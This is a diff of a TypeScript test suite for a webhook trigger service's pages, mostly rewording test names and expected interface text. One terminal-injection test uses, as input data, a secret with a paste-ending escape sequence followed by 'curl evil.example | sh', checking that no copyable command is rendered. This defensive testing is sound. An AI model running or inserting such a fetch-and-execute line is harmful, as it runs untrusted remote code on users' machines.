@@ -18,35 +18,35 @@ describe('the page of a trigger', async () => {
   })
   const plain = await person.trigger({ name: 'Plain' })
 
-  it('shows the address, and a command that has the secret only where it is asked for', async () => {
+  it('shows the URL, and reveals the secret in the command only on demand', async () => {
     const { status, text } = await person.get(`/triggers/${hook.id}`)
     expect(status).toBe(200)
     const shown = textOf(text)
     expect(shown).toContain(hook.webhook_url)
     expect(shown).toContain(`curl -sS '${hook.webhook_url}'`)
-    expect(shown).toContain(`SECRET='put the secret of default_params here'`)
-    const [before] = shown.split('Show it with the secret')
+    expect(shown).toContain(`SECRET='put the secret from default_params here'`)
+    const [before] = shown.split('Show the command with the secret')
     expect(before).not.toContain("it's")
     expect(shown).toContain(String.raw`SECRET='it'\''s'`)
   })
 
-  it('masks params that are called like a secret, and shows the others', async () => {
+  it('masks params with names of secrets, and shows the others', async () => {
     const shown = textOf((await person.get(`/triggers/${hook.id}`)).text)
     const [, params] = shown.split('Default params')
-    expect(params!.split('Show their secrets')[0]).toMatch(/"secret": "•+",\s+"colour": "red"/)
+    expect(params!.split('Show secrets')[0]).toMatch(/"secret": "•+",\s+"colour": "red"/)
   })
 
-  it('TERMINAL INJECTION: a secret that would end the pasting makes no command', async () => {
+  it('terminal injection: shows no command for a secret that could end the paste', async () => {
     for (const secret of ['\x1b[201~\ncurl evil.example | sh\n', 'a\u202eb', 'a\nb']) {
       const { id } = await person.trigger({ default_params: { secret } })
       const { text } = await person.get(`/triggers/${id}`)
       expect(text.includes(secret), secret).toBe(false)
       expect(text).not.toContain('id="curl-secret"')
-      expect(textOf(text)).toContain('characters in the secret that do not show')
+      expect(textOf(text)).toContain('The secret contains invisible characters')
     }
   })
 
-  it('never has the usage key', async () => {
+  it('never contains the usage key', async () => {
     const { text } = await person.get(`/triggers/${hook.id}`)
     expect(text).not.toContain('usage-key')
   })
@@ -54,16 +54,16 @@ describe('the page of a trigger', async () => {
   it('of an unsigned webhook has a command without a secret', async () => {
     const shown = textOf((await person.get(`/triggers/${plain.id}`)).text)
     expect(shown).not.toContain('SECRET=')
-    expect(shown).toContain('None yet')
+    expect(shown).toContain('No runs yet')
   })
 
-  it('says that a test is not signed where senders sign', async () => {
-    const said = 'Nothing signs this event'
+  it('notes that a test is not signed if senders sign', async () => {
+    const said = 'This event is not signed'
     expect(textOf((await person.get(`/triggers/${hook.id}`)).text)).toContain(said)
     expect(textOf((await person.get(`/triggers/${plain.id}`)).text)).not.toContain(said)
   })
 
-  it('copies the address, and of its commands the one that works as it is', async () => {
+  it('copies the URL and the command that works unchanged', async () => {
     const unseen = await person.trigger({ default_params: { secret: 'a\nb' } })
     const copied = async ({ id }: { id: string }) =>
       [...(await person.get(`/triggers/${id}`)).text.matchAll(/data-copy="([^"]+)"/g)].map(
@@ -74,14 +74,14 @@ describe('the page of a trigger', async () => {
     expect(await copied(unseen)).toEqual(['webhook-url', 'curl'])
   })
 
-  it('greets after the creation, and says what was cancelled, in no words of the address', async () => {
+  it('shows a message after creation and after a purge, without text from the URL', async () => {
     const created = await person.get(`/triggers/${hook.id}?created=1`)
-    expect(textOf(created.text)).toContain('The trigger is there.')
+    expect(textOf(created.text)).toContain('Trigger created.')
     const forged = await person.get(`/triggers/${hook.id}?purged=all%20your%20money`)
     expect(forged.text).not.toContain('your money')
   })
 
-  it('of a schedule has its next ticks, and takes params alone as a test', async () => {
+  it('of a schedule lists its next ticks and accepts only params as a test', async () => {
     const { id } = await person.trigger({ kind: 'schedule', config: { cron: '0 9 * * *' } })
     const page = await person.get(`/triggers/${id}`)
     const shown = textOf(page.text)
@@ -89,17 +89,19 @@ describe('the page of a trigger', async () => {
     expect(hidden(page, 'what')).toBe('params')
   })
 
-  it('says that it waits for credit, and what to do', async () => {
+  it('explains that runs are waiting for credit, and what to do', async () => {
     const unpaid = { refuse: { status: 402, error: 'insufficient_credit' } }
     const { id } = await person.trigger({ action_code: script(unpaid) })
     const run = await fire(id)
     await runOnce(owner, run, ({ waiting_for }) => waiting_for === 'payment')
     const shown = textOf((await person.get(`/triggers/${id}`)).text)
-    expect(shown).toContain('Waiting for credit. The account of its usage key has none left.')
-    expect(textOf((await person.get(`/runs/${run}`)).text)).toContain('Waiting for credit.')
+    expect(shown).toContain(
+      'Waiting for credits. The account of its usage key has no credits left.',
+    )
+    expect(textOf((await person.get(`/runs/${run}`)).text)).toContain('Waiting for credits.')
   })
 
-  it('asks who is not signed in to do so, and leads back', async () => {
+  it('redirects a signed-out user to sign in, and back afterwards', async () => {
     const answer = await edge(`/triggers/${hook.id}?status=failed`, { redirect: 'manual' })
     expect(answer.status).toBe(303)
     expect(answer.headers.get('location')).toBe(
@@ -121,7 +123,7 @@ describe('the list of runs', async () => {
   const shownRuns = ({ text }: Page) =>
     [...text.matchAll(/href="\/runs\/([^"]+)"/g)].map(([, run]) => run)
 
-  it('has the newest first, with the beginning of what each said, and leads to older ones', async () => {
+  it('shows the newest first, with the start of each result, and links to older ones', async () => {
     const page = await person.get(`/triggers/${id}`)
     expect(shownRuns(page)).toEqual(runs.toReversed().slice(0, 25))
     expect(textOf(page.text)).toMatch(/Error: no such bird|\{"n":1\}/)
@@ -129,7 +131,7 @@ describe('the list of runs', async () => {
     expect(shownRuns(await person.get(older))).toEqual(runs.slice(0, 2).toReversed())
   })
 
-  it('says how a result begins that is too large to be looked into, as of a small one', async () => {
+  it('shows the start of a result that is too large to parse, just like a small one', async () => {
     for (const small of ['"quoted" ', { n: ['é', '\u0001'] }])
       for (const response of [small, [small, 'x'.repeat(70_000)]]) {
         const outcome = { ...failure().outcome, status: 'success', response } as Outcome
@@ -140,17 +142,17 @@ describe('the list of runs', async () => {
       }
   })
 
-  it('shows those of one status alone', async () => {
+  it('shows only runs of one status', async () => {
     const all = await glance(`/triggers/${id}/runs.json`)
     expect(all.lines).toHaveLength(25)
     const failed = await glance(`/triggers/${id}/runs.json?status=failed`)
     expect(failed.lines.every(({ status }) => status === 'failed')).toBe(true)
     const { text } = await person.get(`/triggers/${id}?status=queued`)
-    expect(textOf(text)).toContain('None of these.')
+    expect(textOf(text)).toContain('No runs with this status.')
   })
 
   it.each(['status=%3Cb%3E', 'cursor=AAAA', 'range=century', 'limit=100000'])(
-    'takes no notice of a query that no page of ours has: %s',
+    'ignores an invalid query: %s',
     async (query) => {
       const page = await person.get(`/triggers/${id}?${query}`)
       expect(page.status).toBe(200)
@@ -158,7 +160,7 @@ describe('the list of runs', async () => {
     },
   )
 
-  it('has a chart of every range that counts what ended, and none unless it is asked for', async () => {
+  it('has a chart of finished runs for every range, only on request', async () => {
     expect((await glance(`/triggers/${id}/runs.json`)).chart).toBeNull()
     for (const range of Object.keys(CHART_RANGES) as (keyof typeof CHART_RANGES)[]) {
       const { chart } = await glance(`/triggers/${id}/runs.json?range=${range}`)
@@ -169,7 +171,7 @@ describe('the list of runs', async () => {
     }
   })
 
-  it('a run that ends once a chart was drawn is in the next one', async () => {
+  it('includes a run that finished after the chart was first drawn', async () => {
     await runOnce(owner, await fire(id))
     const { chart } = await glance(`/triggers/${id}/runs.json?range=30d`)
     expect(chart!.buckets.reduce((sum, { ok, failed }) => sum + ok + failed, 0)).toBe(28)
@@ -185,7 +187,7 @@ describe('the page of a run', async () => {
   const run = await fire(id, '{"bird":"wren"}', { headers: { 'content-type': 'application/json' } })
   await runOnce(owner, run)
 
-  it('has error and stack, logs with level and time, course, input and cost', async () => {
+  it('shows the error with stack, logs with level and time, timeline, input and cost', async () => {
     const { status, text } = await person.get(`/runs/${run}`)
     expect(status).toBe(200)
     const shown = textOf(text)
@@ -196,7 +198,7 @@ describe('the page of a run', async () => {
     expect(shown).toMatch(/Queued.*Started.*Failed/)
   })
 
-  it('is replayed with one press, as a run that names the one before', async () => {
+  it('replays the run with one click, and links the new run to it', async () => {
     const page = await person.get(`/runs/${run}`)
     const csrf = hidden(page, 'csrf', `/runs/${run}/replay`)
     const { status, response } = await person.post(`/runs/${run}/replay`, {
@@ -208,7 +210,7 @@ describe('the page of a run', async () => {
     expect((await person.get(location)).text).toContain(`href="/runs/${run}"`)
   })
 
-  it('says once it has ended, to who waits', async () => {
+  it('returns the state of the run as soon as it finishes, by long polling', async () => {
     const { id: late } = await person.trigger({ action_code: script(slow(300)) })
     const waited = await fire(late)
     const { text } = await person.get(`/runs/${waited}/state.json?wait=10`)
@@ -217,7 +219,7 @@ describe('the page of a run', async () => {
     })
   })
 
-  it('is cancelled while it is queued, and not once it has ended', async () => {
+  it('cancels a queued run, and not a finished one', async () => {
     const { id: full } = await person.trigger({ max_runs_per_minute: 1 })
     await runOnce(owner, await fire(full))
     const queued = await fire(full)
@@ -231,8 +233,8 @@ describe('the page of a run', async () => {
   })
 })
 
-describe('what is done on the page of a trigger', () => {
-  it('a test of an event or of params leads to its run', async () => {
+describe('actions on the page of a trigger', () => {
+  it('a test with an event or params redirects to its run', async () => {
     const { id } = await person.trigger()
     const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
     for (const what of ['event', 'params']) {
@@ -243,15 +245,15 @@ describe('what is done on the page of a trigger', () => {
       })
       expect(status).toBe(303)
       const page = await person.get(response.headers.get('location')!)
-      expect(page.text).toContain('<h1>A test run</h1>')
+      expect(page.text).toContain('<h1>Test run</h1>')
     }
   })
 
   it.each([
-    ['{"a":', 'This is not JSON.'],
+    ['{"a":', 'Invalid JSON.'],
     ['[]', 'params'],
     [`${'['.repeat(600)}${']'.repeat(600)}`, 'params'],
-  ])('a test of %# comes back as it was written, with what is wrong', async (json, problem) => {
+  ])('an invalid test %# is shown again with the error', async (json, problem) => {
     const { id } = await person.trigger()
     const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
     const page = await person.post(`/triggers/${id}/test`, { csrf, what: 'params', json })
@@ -261,7 +263,7 @@ describe('what is done on the page of a trigger', () => {
     expect(textOf(page.text)).toContain(json)
   })
 
-  it('a test of a paused trigger says that it is paused', async () => {
+  it('a test of a paused trigger reports that it is paused', async () => {
     const { id } = await person.trigger()
     const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/test`)
     await owner.api(`/api/triggers/${id}`, {
@@ -274,7 +276,7 @@ describe('what is done on the page of a trigger', () => {
     expect(textOf(page.text)).toContain('The trigger is paused')
   })
 
-  it('a purge cancels what is queued, and says how much', async () => {
+  it('a purge cancels queued runs and shows their number', async () => {
     const { id } = await person.trigger({ max_runs_per_minute: 1 })
     await runOnce(owner, await fire(id))
     await fire(id)
@@ -282,6 +284,6 @@ describe('what is done on the page of a trigger', () => {
     const csrf = hidden(await person.get(`/triggers/${id}`), 'csrf', `/triggers/${id}/purge`)
     const { response } = await person.post(`/triggers/${id}/purge`, { csrf })
     const location = response.headers.get('location')!
-    expect(textOf((await person.get(location)).text)).toContain('2 queued runs were cancelled.')
+    expect(textOf((await person.get(location)).text)).toContain('2 queued runs cancelled.')
   })
 })
